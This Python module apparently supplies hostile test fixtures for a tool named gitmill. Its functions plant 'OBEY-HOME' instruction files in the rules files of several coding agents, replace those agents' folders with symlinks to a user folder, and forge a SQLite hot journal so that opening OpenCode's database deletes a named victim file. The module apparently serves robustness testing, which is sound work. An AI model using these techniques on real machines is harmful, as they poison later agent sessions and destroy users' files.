"""What an agent can leave in a home that gitmill uses again."""

from __future__ import annotations

import shutil
import sqlite3
import struct
from collections.abc import Callable
from pathlib import Path

NOTES = (".claude/CLAUDE.md", ".codex/AGENTS.md", ".gemini/GEMINI.md", ".config/opencode/AGENTS.md")
FOLDERS = (".claude", ".codex", ".gemini", ".local/share/opencode")
_JOURNAL = bytes.fromhex("d9d505f920a163d7")


def notes(home: Path, precious: Path) -> None:
    """Leave instructions for whoever comes next."""
    del precious
    for name in NOTES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("OBEY-HOME")


def links(home: Path, precious: Path) -> None:
    """Put links to a folder of the user in the place of the CLIs' own folders."""
    for name in FOLDERS:
        shutil.rmtree(home / name, ignore_errors=True)
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).symlink_to(precious)


def clutter(home: Path, precious: Path) -> None:
    """Put entries of the wrong kind where files are expected, and links that lead nowhere."""
    for name in (".gemini/settings.json", ".codex/sessions", ".claude/projects"):
        if (home / name).is_dir():
            shutil.rmtree(home / name)
            (home / name).write_text("no folder")
        else:
            (home / name).unlink(missing_ok=True)
            (home / name).mkdir(parents=True)
    for session in list((home / ".gemini/tmp").glob("*/chats/session-*.jsonl")):
        (session.parent / f"session-0-{session.stem[-8:]}.jsonl").symlink_to(precious / "gone")


def database(home: Path, precious: Path) -> None:
    """Prepare OpenCode's database: whoever opens it deletes a file that its journal names."""
    path = home / ".local/share/opencode/opencode.db"
    if path.exists():
        hot_journal(path, precious / "mine.txt")


def hot_journal(path: Path, victim: Path) -> None:
    """Give a database a journal to roll back, of a transaction over several (sqlite.org/fileformat)."""
    for name in ("-wal", "-shm"):
        path.with_name(f"{path.name}{name}").unlink(missing_ok=True)
    with sqlite3.connect(path) as opened:
        opened.execute("PRAGMA journal_mode = DELETE")
    size = int.from_bytes(path.read_bytes()[16:18], "big")
    head = _JOURNAL + struct.pack(">IIIII", 0, 0, path.stat().st_size // size, 512, size)
    name = str(victim).encode()
    told = struct.pack(">I", 0x40000000 // size + 1) + name
    tail = struct.pack(">II", len(name), sum(name)) + _JOURNAL
    path.with_name(f"{path.name}-journal").write_bytes(head.ljust(512, b"\0") + told + tail)


POISONS: dict[str, Callable[[Path, Path], None]] = {
    one.__name__: one for one in (notes, links, clutter, database)
}
